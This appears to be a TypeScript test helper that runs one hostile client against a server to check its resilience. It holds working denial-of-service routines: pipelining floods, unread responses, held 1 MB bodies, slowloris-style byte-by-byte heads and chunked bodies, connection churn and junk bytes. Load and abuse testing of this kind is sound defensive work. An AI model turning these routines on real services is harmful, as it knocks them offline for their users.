import { connect, type Socket } from 'node:net'

/**
 * One hostile client in its own process, so that its own cost is not counted as the server's: `bun attacker.child.ts
 * <attack> <host> <port>`. Runs until it is killed. Prints `attacking` once the attack is under way.
 */
export const ATTACKS = {
  /** One connection repeats a small request as fast as possible, and reads the answers. */
  'pipelines on one connection': (target: Target) =>
    pipeline(target, { connections: 1, reads: true, to: '/zzzz' }),
  'pipelines on a hundred connections': (target: Target) =>
    pipeline(target, { connections: 100, reads: true, to: '/v1/liveness' }),
  'pipelines and does not read': (target: Target) =>
    pipeline(target, { connections: 50, reads: false, to: '/v1/liveness' }),
  'asks for large answers and does not read': (target: Target) =>
    pipeline(target, { connections: 200, reads: false, to: '/openapi.json' }),
  'holds bodies': (target: Target) => holdBodies(target, 400),
  'sends bodies by single bytes': (target: Target) => dripBodies(target, 50),
  'sends heads by single bytes': (target: Target) => dripHeads(target, 50),
  'opens and drops connections': (target: Target) => churn(target, 50),
  'sends what is no request': (target: Target) => junk(target, 50),
} as const

export type Attack = keyof typeof ATTACKS
type Target = { host: string; port: number }

/** A connection that is reopened when the server closes it. */
function keepOpen({ host, port }: Target, begin: (socket: Socket) => void): void {
  const open = () => {
    const socket = connect(port, host)
    socket.on('error', () => {})
    socket.on('close', () => setTimeout(open, 5))
    socket.on('connect', () => begin(socket))
  }
  open()
}

/** Writes the same bytes as long as the other side accepts them. */
function writeWithoutEnd(socket: Socket, bytes: Buffer): void {
  const write = () => {
    while (!socket.destroyed && socket.write(bytes));
  }
  socket.on('drain', write)
  write()
}

function pipeline(
  target: Target,
  { connections, reads, to }: { connections: number; reads: boolean; to: string },
): void {
  const request = `GET ${to} HTTP/1.1\r\nHost: abcd\r\n\r\n`
  const bytes = Buffer.from(request.repeat(Math.ceil(16_384 / request.length)))
  for (let i = 0; i < connections; i++)
    keepOpen(target, (socket) => {
      if (reads) socket.on('data', () => {})
      else socket.pause()
      writeWithoutEnd(socket, bytes)
    })
}

const BODY_BYTES = 1_048_576

const bodyHead = (length: number) =>
  `POST /v1/keys.verifyKey HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`

/** Sends all but ten bytes of the largest allowed body. */
function holdBodies(target: Target, connections: number): void {
  const bytes = Buffer.concat([Buffer.from(bodyHead(BODY_BYTES)), Buffer.alloc(BODY_BYTES - 10, 32)])
  for (let i = 0; i < connections; i++)
    keepOpen(target, (socket) => {
      socket.on('data', () => {})
      socket.write(bytes)
    })
}

function dripBodies(target: Target, connections: number): void {
  const chunk = Buffer.from('1\r\n \r\n'.repeat(200))
  for (let i = 0; i < connections; i++)
    keepOpen(target, (socket) => {
      socket.on('data', () => {})
      socket.write(
        'POST /v1/keys.verifyKey HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n',
      )
      writeWithoutEnd(socket, chunk)
    })
}

function dripHeads(target: Target, connections: number): void {
  for (let i = 0; i < connections; i++)
    keepOpen(target, (socket) => {
      socket.setNoDelay(true)
      socket.on('data', () => {})
      socket.write('GET /v1/liveness HTTP/1.1\r\nHost: localhost\r\nX-Long: ')
      const drip = setInterval(() => socket.write('a'), 1)
      socket.on('close', () => clearInterval(drip))
    })
}

/** Half of them leave a request unanswered. */
function churn({ host, port }: Target, lanes: number): void {
  const open = (i: number) => {
    const socket = connect(port, host)
    socket.on('error', () => {})
    socket.on('close', () => setImmediate(open, i + 1))
    socket.on('connect', () => {
      if (i % 2 === 0) socket.write('GET /v1/liveness HTTP/1.1\r\nHost: localhost\r\n\r\n')
      socket.resetAndDestroy()
    })
  }
  for (let i = 0; i < lanes; i++) open(i)
}

function junk(target: Target, connections: number): void {
  const bytes = Buffer.alloc(16_384, '\x16\x03\x01 GET\r\n')
  for (let i = 0; i < connections; i++)
    keepOpen(target, (socket) => {
      socket.on('data', () => {})
      writeWithoutEnd(socket, bytes)
    })
}

if (import.meta.main) {
  const [attack, host = '', port] = process.argv.slice(2)
  if (attack === undefined || !(attack in ATTACKS)) throw new Error(`no such attack: ${attack}`)
  ATTACKS[attack as Attack]({ host, port: Number(port) }) // checked above
  setTimeout(() => console.log('attacking'), 500)
}
